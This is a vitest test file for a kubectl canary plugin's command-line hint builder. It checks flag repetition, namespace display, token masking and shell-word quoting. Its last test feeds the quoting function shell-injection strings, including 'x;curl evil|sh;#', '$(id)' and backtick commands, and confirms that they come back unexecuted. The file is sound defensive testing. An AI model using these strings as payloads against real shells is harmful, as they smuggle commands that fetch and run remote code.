import { execFileSync } from 'node:child_process'
import { expect, test } from 'vitest'
import { commandLines, shellWord } from '../../../../commands/output/command-line.ts'

const podinfo = { name: 'podinfo', namespace: 'test' }

test('a hint repeats every flag that says where and as whom, and acts on the same canary', () => {
  const flags = {
    kubeconfig: '/tmp/my config',
    context: 'prod-eu',
    namespace: 'test',
    as: 'jane',
    'as-group': ['sre', 'dev'],
    'insecure-skip-tls-verify': true,
  }
  const { plugin, kubectl } = commandLines('kubectl canary', flags, 'test')
  const connection =
    "'--kubeconfig=/tmp/my config' --context=prod-eu --as=jane --as-group=sre --as-group=dev --insecure-skip-tls-verify"
  expect(plugin('promote', podinfo, '--step')).toBe(
    `kubectl canary promote podinfo --step -n test ${connection}`,
  )
  expect(kubectl('test', 'annotate', 'ingress', 'x', 'a/b=0')).toBe(
    `kubectl -n test ${connection} annotate ingress x a/b=0`,
  )
})

test('the namespace is named where it is not the one that is looked in without a flag', () => {
  const usual = commandLines('kubectl canary', {}, 'test')
  expect(usual.plugin('abort', podinfo)).toBe('kubectl canary abort podinfo')
  expect(usual.name(podinfo)).toBe('canary.flagger.app/podinfo')
  // As behind -A, or of a file.
  const elsewhere = { name: 'checkout', namespace: 'shop' }
  expect(usual.plugin('abort', elsewhere)).toBe('kubectl canary abort checkout -n shop')
  expect(usual.name(elsewhere)).toBe('canary.flagger.app/checkout (namespace shop)')
})

test('a command that takes no name is for the namespace', () => {
  const usual = commandLines('kubectl canary', { context: 'prod' }, 'test')
  expect(usual.general('check', 'test')).toBe('kubectl canary check --context=prod')
  expect(usual.general('check', 'shop')).toBe('kubectl canary check -n shop --context=prod')
})

test('a hint shows no token', () => {
  const { plugin } = commandLines('kubectl canary', { token: 'sesame' }, 'test')
  expect(plugin('abort', podinfo)).toBe('kubectl canary abort podinfo --token=TOKEN')
})

test('a shell reads a quoted word back as it is, and runs nothing in it', () => {
  for (const word of [
    'x;curl evil|sh;#',
    "it's",
    '$(id)',
    '`id`',
    '~root',
    '=ls',
    '-- x',
    '',
    '*',
    '!!',
    '[{"op":"replace","value":0}]',
  ]) {
    const told = execFileSync('sh', ['-c', `printf %s ${shellWord(word)}`], { encoding: 'utf8' })
    expect(told).toBe(word)
  }
  expect(shellWord('a\u001b[31m\n')).toBe("'a^[[31m^J'")
  expect(shellWord('--context=prod')).toBe('--context=prod')
})
